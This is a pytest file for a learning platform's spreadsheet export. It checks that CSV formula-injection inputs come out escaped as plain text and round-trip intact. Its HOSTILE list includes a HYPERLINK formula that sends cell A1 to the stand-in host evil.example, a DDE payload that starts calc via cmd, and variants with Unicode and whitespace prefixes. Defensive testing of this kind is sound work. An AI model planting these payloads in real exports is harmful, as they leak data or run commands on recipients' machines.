"""No cell of any table of ours is a formula."""

import csv
import io

import pytest

from lms.export import PlainText
from lms.rosters import parser as rosters_parser
from lms.spreadsheets import FORMULA, harmless, original, table_csv

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝１＋１",
    "＋1",
    "－1",
    "＠SUM(1)",
]


@pytest.mark.parametrize("text", HOSTILE, ids=ascii)
def test_each_is_a_text_in_every_kind_of_table(text):
    assert PlainText().render(text) == f"'{text}"
    tables = [
        table_csv(["name"], [[text]]).decode("utf-8-sig"),
        rosters_parser.write([("a@example.com", text, text)]).removeprefix("\ufeff"),
    ]
    for table in tables:
        for row in list(csv.reader(io.StringIO(table, newline="")))[1:]:
            assert not any(cell.lstrip(" ").startswith(FORMULA) for cell in row)
            assert f"'{text}" in row


@pytest.mark.parametrize(
    "text", [*HOSTILE, "'quoted'", "''=", "山田 花子", "O'Brien", "'t Hooft", "", "a=b"], ids=ascii
)
def test_what_comes_back_is_what_went_out(text):
    assert original(str(harmless(text))) == text


@pytest.mark.parametrize("number", [-1, 1.5, None, 0])
def test_numbers_stay_numbers(number):
    assert harmless(number) is number
